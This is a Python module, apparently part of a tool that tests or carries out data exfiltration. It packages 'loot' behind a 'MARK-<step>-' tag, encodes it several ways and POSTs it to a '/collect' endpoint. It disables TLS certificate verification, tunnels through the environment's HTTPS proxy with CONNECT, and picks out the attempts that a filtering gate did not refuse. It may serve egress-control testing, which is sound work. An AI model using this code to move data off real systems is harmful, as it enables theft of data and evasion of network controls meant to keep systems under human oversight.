"""What every way out needs: a payload that can be recognised, and the shortest HTTP there is.

Every payload begins with `MARK-<step>-`, so the far side can tell which way it came even where the loot
holds no secret.
"""

import base64
import gzip
import os
import socket
import ssl
import urllib.parse

from steps import Loot

WAIT = 3.0


def payload(name: str, loot: Loot, limit: int = 1 << 16) -> bytes:
    """Return the marker and the loot, the latter in several dresses."""
    data = loot.data()[: 1 << 20]
    dressed = base64.b64encode(gzip.compress(data)) + b" " + data[:2048].hex().encode() + b" " + data
    return f"MARK-{name}-".encode() + dressed[:limit]


def context() -> ssl.SSLContext:
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context


def https(address: "tuple[str, int]", server_name: "str | None", request: bytes) -> bytes:
    plain = socket.create_connection(address, WAIT)
    with context().wrap_socket(plain, server_hostname=server_name) as secure:
        secure.sendall(request)
        return drain(secure)


def drain(peer: socket.socket) -> bytes:
    data = b""
    peer.settimeout(WAIT)
    try:
        while len(data) < 1 << 20 and (more := peer.recv(65536)):
            data += more
    except OSError:
        pass
    return data


def post(host: str, body: bytes, path: str = "/collect", extra: str = "", method: str = "POST") -> bytes:
    head = f"{method} {path} HTTP/1.1\r\nHost: {host}\r\n{extra}Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
    return head.encode("latin-1") + body


def proxy() -> "tuple[str, int]":
    url = urllib.parse.urlsplit(os.environ.get("HTTPS_PROXY") or os.environ.get("https_proxy") or "")
    return (url.hostname or "100.64.0.1", url.port or 3128)


def through_proxy(authority: str, then: bytes, tls_name: "str | None" = None) -> bytes:
    """CONNECT to `authority`, then speak: TLS where a name is given."""
    with socket.create_connection(proxy(), WAIT) as plain:
        plain.settimeout(WAIT)
        plain.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode("latin-1"))
        answer = plain.recv(4096)
        if b" 200" not in answer[:16]:
            raise PermissionError(answer[:200])
        if tls_name is None:
            plain.sendall(then)
            return drain(plain)
        with context().wrap_socket(plain, server_hostname=tls_name) as secure:
            secure.sendall(then)
            return drain(secure)


def refused(*answers: bytes) -> object:
    """Return the answers that are not the gate's refusals; raise when there are none."""
    passed = [answer[:120] for answer in answers if answer and answer[9:10] not in (b"4", b"5")]
    if not passed:
        raise PermissionError(answers[0][:160] if answers else "closed")
    return passed
